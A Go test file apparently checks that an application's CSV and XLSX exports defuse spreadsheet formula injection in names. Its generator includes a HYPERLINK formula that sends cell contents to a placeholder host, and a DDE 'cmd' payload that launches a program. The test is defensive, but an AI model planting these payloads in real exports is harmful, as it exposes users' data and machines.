package app_test

import (
	"archive/zip"
	"bytes"
	"encoding/json"
	"encoding/xml"
	"fmt"
	"io"
	"net/http"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"testing"
	"unicode"

	"sochibo/internal/app"
	"sochibo/internal/auth"
	"sochibo/internal/config"
	"sochibo/internal/database"
	"sochibo/internal/exchange"
	"sochibo/internal/testkit/dbtest"
	"sochibo/internal/testkit/experiment"

	"log/slog"
	"os"
)

// formulas are names that a spreadsheet would compute, behind whatever it passes over at the beginning.
func formulas() []string {
	var list []string
	for _, before := range []string{"", " ", "\u00a0", "\ufeff", "\u200b", "'", "' ", "''", "\t", "\r", "\n", "\x00", "\u3000"} {
		for _, start := range []string{"=", "+", "-", "@", "＝", "＋", "－", "＠", "\t=", "\r\n=", "\x00="} {
			for _, rest := range []string{"1+1", `HYPERLINK("http://x.example/?"&A1,"xem")`, "cmd|' /C calc'!A0"} {
				list = append(list, before+start+rest)
			}
		}
	}
	return list
}

// TestE52Formulas names topics, members and organisations after formulas, reads every list as a file with a reader of its own, and moves
// the names through a folder to another installation.
func TestE52Formulas(t *testing.T) {
	t.Parallel()
	eachInstallation(t, func(t *testing.T, in installation) {
		administrator, secretary := in.as(t, auth.RoleAdministrator, ""), in.as(t, auth.RoleSecretary, "")
		d := found(t, administrator, 1)
		stored, refused := map[string]bool{}, 0
		for i, name := range formulas() {
			for path, body := range map[string]string{
				"/topics":        `{"category":"other","title":%s}`,
				"/members":       `{"full_name":%s,"membership":{"organization_id":"` + d.cells[0].id + `","from":"2012-01-01"}}`,
				"/organizations": `{"kind":"cell","name":%s,"founded_on":"2012-01-01","parent_id":"` + d.parties[0] + `"}`,
			} {
				if path != "/topics" && i%3 != 0 {
					continue
				}
				text, _ := json.Marshal(name)
				who := administrator
				if path == "/topics" {
					who = secretary
				}
				answer := who.send(t.Context(), http.MethodPost, path, fmt.Sprintf(body, text))
				switch answer.Status {
				case http.StatusCreated:
					stored[answer.Field(t, map[string]string{"/topics": "title", "/members": "full_name", "/organizations": "name"}[path])] = true
				case http.StatusUnprocessableEntity:
					refused++
				default:
					t.Fatalf("%s %q: %s", path, name, answer)
				}
			}
		}
		wrong := judgeFiles(t, in.as(t, auth.RoleSuperior, ""), d, stored)
		wrong += judgeWorkbook(t, in.as(t, auth.RoleSuperior, ""), administrator.create(t, "/organizations", `{"kind":"cell","name":"=1+1","founded_on":"2012-01-01","parent_id":%q}`, d.parties[0]))
		wrong += judgeReturn(t, in)
		t.Logf("%d names stored, %d refused", len(stored), refused)
		experiment.Report(t, experiment.Result{ID: "E-52", Engine: string(in.DB().Engine()), N: len(stored) + refused, Observed: wrong, Pass: wrong == 0 && len(stored) > 50})
	})
}

// judgeFiles reads the lists as CSV: no cell computes, and each name comes back when one apostrophe is taken away.
func judgeFiles(t *testing.T, superior client, d district, stored map[string]bool) (wrong int) {
	t.Helper()
	seen := map[string]bool{}
	for _, path := range []string{"/topics", "/members", "/organizations", "/organizations/" + d.root + "/summary?from=2018-01&to=2018-03"} {
		for cursor, more := "", true; more; {
			joint := "?"
			if strings.Contains(path, "?") {
				joint = "&"
			}
			limit := ""
			if !strings.Contains(path, "summary") {
				limit = "&limit=200" + cursor
			}
			answer := superior.must(t, http.StatusOK, http.MethodGet, path+joint+"format=csv"+limit, "")
			for _, row := range splitCSV(strings.TrimPrefix(answer.Text, "\ufeff")) {
				for _, cell := range row {
					if computes(cell) {
						wrong++
						t.Errorf("%s: %q computes", path, cell)
					}
					seen[strings.TrimPrefix(cell, "'")], seen[cell] = true, true
				}
			}
			more = false
			if !strings.Contains(path, "summary") {
				next := superior.must(t, http.StatusOK, http.MethodGet, path+"?limit=200"+cursor, "").Field(t, "next")
				cursor, more = "&cursor="+next, next != ""
			}
		}
	}
	for name := range stored {
		if !seen[name] {
			wrong++
			t.Errorf("%q is in no file", name)
		}
	}
	return wrong
}

var number = regexp.MustCompile(`^[+-]?[0-9]+([.,][0-9]+)*( ?%)?$`)

// computes reports whether a spreadsheet could take a cell for a formula.
func computes(cell string) bool {
	if number.MatchString(cell) {
		return false
	}
	visible := strings.TrimLeftFunc(cell, func(r rune) bool { return unicode.IsSpace(r) || unicode.IsControl(r) || unicode.Is(unicode.Cf, r) })
	return visible != "" && strings.ContainsRune("=+-@＝＋－＠", []rune(visible)[0])
}

// splitCSV reads RFC 4180 letter by letter; it shares nothing with what wrote the file.
func splitCSV(text string) [][]string {
	var rows [][]string
	var row []string
	var cell strings.Builder
	inside := false
	letters := []rune(text)
	for i := 0; i < len(letters); i++ {
		switch r := letters[i]; {
		case inside && r == '"' && i+1 < len(letters) && letters[i+1] == '"':
			cell.WriteRune('"')
			i++
		case r == '"':
			inside = !inside
		case inside:
			cell.WriteRune(r)
		case r == ',':
			row = append(row, cell.String())
			cell.Reset()
		case r == '\n':
			rows, row = append(rows, append(row, strings.TrimSuffix(cell.String(), "\r"))), nil
			cell.Reset()
		default:
			cell.WriteRune(r)
		}
	}
	return rows
}

// judgeWorkbook opens the summary as the archive of XML that it is: it holds no formula, and the name is a text.
func judgeWorkbook(t *testing.T, superior client, id string) (wrong int) {
	t.Helper()
	answer := superior.must(t, http.StatusOK, http.MethodGet, "/organizations/"+id+"/summary?from=2018-01&to=2018-03&format=xlsx", "")
	archive, err := zip.NewReader(strings.NewReader(answer.Text), int64(len(answer.Text)))
	if err != nil {
		t.Fatal(err)
	}
	cells := 0
	for _, entry := range archive.File {
		if !strings.HasPrefix(entry.Name, "xl/worksheets/") {
			continue
		}
		opened, err := entry.Open()
		if err != nil {
			t.Fatal(err)
		}
		data, err := io.ReadAll(opened)
		if err != nil {
			t.Fatal(err)
		}
		for decoder := xml.NewDecoder(bytes.NewReader(data)); ; {
			token, err := decoder.Token()
			if err != nil {
				break
			}
			if element, ok := token.(xml.StartElement); ok {
				if element.Name.Local == "c" {
					cells++
				}
				if slices.Contains([]string{"f", "hyperlink", "oleObject"}, element.Name.Local) {
					wrong++
					t.Errorf("the workbook holds <%s>", element.Name.Local)
				}
			}
		}
	}
	if cells < 10 {
		t.Errorf("%d cells were seen", cells)
		wrong++
	}
	return wrong
}

// judgeReturn exports everything, imports it elsewhere and exports again: the folders are the same.
func judgeReturn(t *testing.T, in installation) (wrong int) {
	t.Helper()
	first, second := filepath.Join(t.TempDir(), "first"), filepath.Join(t.TempDir(), "second")
	if _, err := in.Exchange.Export(t.Context(), auth.InstallationActor(), first, exchange.ExportOptions{}); err != nil {
		t.Fatal(err)
	}
	other := app.Over(dbtest.Open(t, database.SQLite, database.Options{}), config.Config{}, "test", slog.New(slog.DiscardHandler))
	if _, err := other.Exchange.Import(t.Context(), auth.InstallationActor(), os.DirFS(first), exchange.ImportOptions{}); err != nil {
		t.Fatal(err)
	}
	if _, err := other.Exchange.Export(t.Context(), auth.InstallationActor(), second, exchange.ExportOptions{}); err != nil {
		t.Fatal(err)
	}
	for _, name := range []string{"topics.csv", "members.csv", "organizations.csv"} {
		one, err := os.ReadFile(filepath.Join(first, name))
		if err != nil {
			t.Fatal(err)
		}
		if two, err := os.ReadFile(filepath.Join(second, name)); err != nil || !bytes.Equal(one, two) || len(one) < 500 {
			wrong++
			t.Errorf("%s came back otherwise: %v", name, err)
		}
	}
	return wrong
}
